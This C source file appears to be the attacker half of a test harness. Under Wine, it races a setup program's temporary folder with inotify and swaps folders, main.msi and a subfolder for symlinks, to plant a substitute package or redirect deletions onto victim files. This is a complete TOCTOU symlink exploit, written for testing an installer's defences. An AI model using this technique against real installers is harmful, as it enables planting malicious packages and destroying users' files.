/* The attacker of wrapper_racer_test.sh: a native Linux process that watches
 * the temporary folder of a setup program with inotify and swaps what it
 * finds there for links, as fast as it can.
 *
 * It plays by Windows' rules as far as Wine lets it see them: share modes
 * bind only Windows processes, so it renames a file only while the
 * wineserver holds no descriptor of it, and a folder only before Wine first
 * opened it (Wine keeps no descriptor of an open folder; the setup program's
 * folders stay open once opened). The server is stopped for each look and
 * swap. Handles without data access have no descriptor either: the handle
 * that deletes main.msi cannot be seen, and a swap after it is one Windows
 * would refuse.
 *
 *   folder_racer <link|package|removal> <temp dir> <scratch dir> <server pid> <n>
 *
 * link     the new "<n>.tmp" folder is swapped for a link to the empty folder
 *          <scratch>/decoy; should anything appear in the decoy, the link is
 *          turned to <scratch>/planted.
 * package  main.msi, once written and closed, is swapped for a link: to our
 *          package itself (moved to <scratch>/ours.msi) for an odd <n>, which
 *          passes every check of content and identity, to
 *          <scratch>/planted/main.msi for an even one.
 * removal  a folder "sub" with a file is added beside main.msi; once msiexec
 *          reads main.msi, "sub" and main.msi are swapped, again and again,
 *          with <scratch>/dirlink and <scratch>/filelink, links to
 *          <scratch>/victim and <scratch>/victim.txt.
 *
 * Writes <scratch>/ready once it watches; on SIGTERM prints how many swaps it
 * made and whether anything was written into the decoy, and exits. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static pid_t server;
static volatile sig_atomic_t stop;
static int events, tempWatch, decoyWatch, folderWatch = -1;
static char temp[PATH_MAX], scratch[PATH_MAX], folder[PATH_MAX];
/* What the watches showed. */
static int folderOpened, subOpened, written, msiexecRead, decoyWritten;
static int swaps;

static void onTerm(int sig) {
    (void)sig;
    stop = 1;
    kill(server, SIGCONT);
}

static void in(char* out, const char* dir, const char* name) {
    if (snprintf(out, PATH_MAX, "%s/%s", dir, name) >= PATH_MAX) exit(3);
}

/* Takes in every event queued; returns whether there were any. */
static int drain(void) {
    char buffer[4096] __attribute__((aligned(8)));
    ssize_t n = read(events, buffer, sizeof buffer);
    for (char* p = buffer; n > 0 && p < buffer + n;) {
        struct inotify_event* ev = (struct inotify_event*)p;
        p += sizeof *ev + ev->len;
        int opened = (ev->mask & IN_OPEN) && (ev->mask & IN_ISDIR) && ev->len;
        if (ev->wd == decoyWatch) {
            decoyWritten = 1;
        } else if (ev->wd == tempWatch && !folder[0] && (ev->mask & IN_CREATE) &&
                   (ev->mask & IN_ISDIR)) {
            in(folder, temp, ev->name);
            folderWatch = inotify_add_watch(events, folder, IN_CLOSE_WRITE | IN_ACCESS | IN_OPEN);
        } else if (ev->wd == tempWatch && opened && folder[0] &&
                   strcmp(folder + strlen(temp) + 1, ev->name) == 0) {
            folderOpened = 1;
        } else if (ev->wd == folderWatch && opened && strcmp(ev->name, "sub") == 0) {
            subOpened = 1;
        } else if (ev->wd == folderWatch && strcmp(ev->name, "main.msi") == 0) {
            written |= (ev->mask & IN_CLOSE_WRITE) != 0;
            msiexecRead |= (ev->mask & IN_ACCESS) != 0; /* the setup program maps it */
        }
    }
    return n > 0;
}

static void pauseServer(void) {
    char path[64], state[512];
    kill(server, SIGSTOP);
    snprintf(path, sizeof path, "/proc/%d/stat", (int)server);
    for (int i = 0; i < 10000; ++i) {
        FILE* f = fopen(path, "r");
        char* s = f && fgets(state, sizeof state, f) ? strrchr(state, ')') : NULL;
        if (f) fclose(f);
        if (!s || s[2] == 'T' || s[2] == 't') break;
    }
    while (drain()) {
    }
}

/* Whether the stopped server holds a descriptor of what `path` names. */
static int serverHolds(const char* path) {
    struct stat target, st;
    char dir[64], fd[PATH_MAX];
    if (lstat(path, &target) != 0 || S_ISLNK(target.st_mode)) return 0;
    snprintf(dir, sizeof dir, "/proc/%d/fd", (int)server);
    DIR* d = opendir(dir);
    struct dirent* e;
    int held = 0;
    while (d && !held && (e = readdir(d))) {
        snprintf(fd, sizeof fd, "%s/%s", dir, e->d_name);
        held = stat(fd, &st) == 0 && st.st_dev == target.st_dev && st.st_ino == target.st_ino;
    }
    if (d) closedir(d);
    return held;
}

/* Exchanges the names `a` and `b` unless Windows would refuse: the server
 * holds either, or *opened (a folder opened by Wine) is set. */
static void exchange(const char* a, const char* b, const int* opened) {
    pauseServer();
    if (!*opened && !serverHolds(a) && !serverHolds(b) &&
        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) {
        ++swaps;
    }
    kill(server, SIGCONT);
}

int main(int argc, char** argv) {
    static const int never = 0;
    if (argc != 6) return 2;
    const char* variant = argv[1];
    snprintf(temp, sizeof temp, "%s", argv[2]);
    snprintf(scratch, sizeof scratch, "%s", argv[3]);
    server = atoi(argv[4]);
    int odd = atoi(argv[5]) % 2;
    struct sigaction sa = {0};
    sa.sa_handler = onTerm;
    sigaction(SIGTERM, &sa, NULL);

    char decoy[PATH_MAX], planted[PATH_MAX], link[PATH_MAX], name[PATH_MAX], other[PATH_MAX];
    in(decoy, scratch, "decoy");
    in(planted, scratch, "planted");
    events = inotify_init1(IN_NONBLOCK);
    tempWatch = inotify_add_watch(events, temp, IN_CREATE | IN_OPEN | IN_ONLYDIR);
    decoyWatch = inotify_add_watch(events, decoy, IN_CREATE);
    in(name, scratch, "ready");
    close(open(name, O_CREAT | O_WRONLY, 0644));

    int acted = 0, subMade = 0, decoyTurned = 0;
    while (!stop) {
        /* At once on an event; every two milliseconds while swapping. */
        struct pollfd pfd = {events, POLLIN, 0};
        int flipping = msiexecRead && !subOpened;
        if (poll(&pfd, 1, flipping ? 2 : -1) > 0) drain();
        if (decoyWritten && !decoyTurned) {
            /* Turn the link from the decoy to the planted folder. */
            decoyTurned = 1;
            in(link, scratch, "newlink");
            if (symlink(planted, link) == 0) rename(link, folder);
        }
        if (!strcmp(variant, "link") && folder[0] && !acted) {
            acted = 1;
            in(link, scratch, "decoylink");
            symlink(decoy, link);
            exchange(folder, link, &folderOpened);
        } else if (!strcmp(variant, "package") && written && !acted) {
            /* The link takes main.msi's name, the package the link's: so
             * the odd link, to its own name, leads to our package. */
            acted = 1;
            in(name, folder, "main.msi");
            in(link, scratch, "ours.msi");
            in(other, planted, "main.msi");
            symlink(odd ? link : other, link);
            exchange(name, link, &never);
        } else if (!strcmp(variant, "removal") && written && !subMade) {
            subMade = 1;
            in(name, folder, "sub");
            mkdir(name, 0755);
            in(other, name, "inner.txt");
            close(open(other, O_CREAT | O_WRONLY, 0644));
        } else if (!strcmp(variant, "removal") && flipping && access(folder, F_OK) == 0) {
            in(name, folder, "sub");
            in(link, scratch, "dirlink");
            exchange(name, link, &subOpened);
            in(name, folder, "main.msi");
            in(link, scratch, "filelink");
            exchange(name, link, &never);
        }
    }
    kill(server, SIGCONT);
    printf("swaps=%d decoy_written=%d\n", swaps, decoyWritten);
    return 0;
}
